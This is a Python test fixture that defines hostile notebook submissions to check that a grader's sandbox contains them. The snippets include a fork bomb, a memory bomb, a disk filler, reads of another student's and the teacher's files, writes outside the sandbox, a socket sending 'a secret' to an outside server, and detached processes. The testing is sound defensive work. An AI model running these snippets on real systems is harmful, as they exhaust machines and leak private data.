"""Submissions that attack the teacher's machine, not the grade: each is chapter 3's full edition
with one cell of attack after a solution, in the exercises, where a student writes.

Their targets are only known when the test runs (the other submissions' folder, a stand-in
for the teacher's home, a server listening on a non-loopback address), so each builder
takes a :class:`Targets`. ``ATTACKS`` maps a file name to its builder and to what its row must
say: the three exercises' statuses, and words of its reason.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.grading.hostile import after, full

__all__ = ["ATTACKS", "LINGERING", "Targets"]

LINGERING = "4321.5"  # the seconds a left-behind `sleep` waits: how the test finds one


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at, outside their sandbox."""

    other_submission: Path  # another student's notebook
    teacher_secret: Path  # a file in the grading process's home
    outside: Path  # a file no submission may write: beside the submissions
    book_file: Path  # one of the book's own files
    server: tuple[str, int]  # a TCP server on a non-loopback address of this machine
    loopback_port: int  # the same server's port, on the machine's 127.0.0.1


def attack(source: str, solution: int = 0) -> Callable[[Targets], Any]:
    """A builder: the full chapter with ``source`` as a cell after its ``solution``-th solution;
    each ``{name}`` in ``source`` is that field of the targets (a path as a string)."""

    def build(targets: Targets) -> Any:
        names = {
            key: str(value) if isinstance(value, Path) else value
            for key, value in vars(targets).items()
        }
        return after(full(), "solution", solution, source.format(**names))

    return build


READ_OTHER = "print(open({other_submission!r}).read())"
READ_HOME = "print(open({teacher_secret!r}).read())"
WRITE_OUTSIDE = """\
for path in ({book_file!r}, {outside!r}):
    try:
        open(path, "a").write("written by a submission")
    except OSError as error:
        print(error)
raise PermissionError("could not write outside")"""
CONNECT_OUT = """\
import socket

for address in [{server!r}, ("127.0.0.1", {loopback_port})]:
    try:
        with socket.create_connection(address, timeout=2) as sock:
            sock.sendall(b"a secret")
    except OSError as error:
        print(address, error)
raise ConnectionError("no connection out")"""
FORK_BOMB = """\
import os

while True:
    try:
        os.fork()
    except OSError:
        pass"""
# The limit is on address space (RLIMIT_AS), so the bomb's pages need not be touched. A
# bytearray's are: filling 2 GiB took 2.0 s on a quiet machine, and over the 5 s cell limit
# under CI's load, which failed CI once. bytes(n) maps zeroed pages it never writes.
MEMORY_BOMB = """\
hoard = []
while True:
    hoard.append(bytes(2**27))"""
DISK_FILLER = """\
for number in range(100_000):
    with open(f"fill-{{number}}", "wb") as file:
        file.write(bytes(2**24))"""
LINGER = f"""\
import subprocess

subprocess.Popen(["sleep", "{LINGERING}"], start_new_session=True)
subprocess.Popen(["sh", "-c", "nohup sleep {LINGERING} &"], start_new_session=True)"""

# name: (builder, the three statuses, words in the reason)
Attack = tuple[Callable[[Targets], Any], list[str], tuple[str, ...]]
# "*": any status. Whether the fork bomb's kernel survives its interrupt depends on how many
# cores its processes leave to the kernel's control thread: on 2, it never did.
PASSED, FIRST_ONLY = ["passed"] * 3, ["passed", "*", "*"]
ATTACKS: dict[str, Attack] = {
    "honest.ipynb": (lambda targets: full(), PASSED, ()),
    "read_other.ipynb": (attack(READ_OTHER), PASSED, ("FileNotFoundError",)),
    "read_home.ipynb": (attack(READ_HOME), PASSED, ("FileNotFoundError",)),
    "write_outside.ipynb": (attack(WRITE_OUTSIDE), PASSED, ("could not write outside",)),
    "connect_out.ipynb": (attack(CONNECT_OUT), PASSED, ("no connection out",)),
    "fork_bomb.ipynb": (attack(FORK_BOMB, 1), FIRST_ONLY, ("ran past",)),
    "memory_bomb.ipynb": (attack(MEMORY_BOMB), PASSED, ("MemoryError",)),
    "disk_filler.ipynb": (attack(DISK_FILLER), PASSED, ("No space left on device",)),
    "linger.ipynb": (attack(LINGER), PASSED, ()),
}
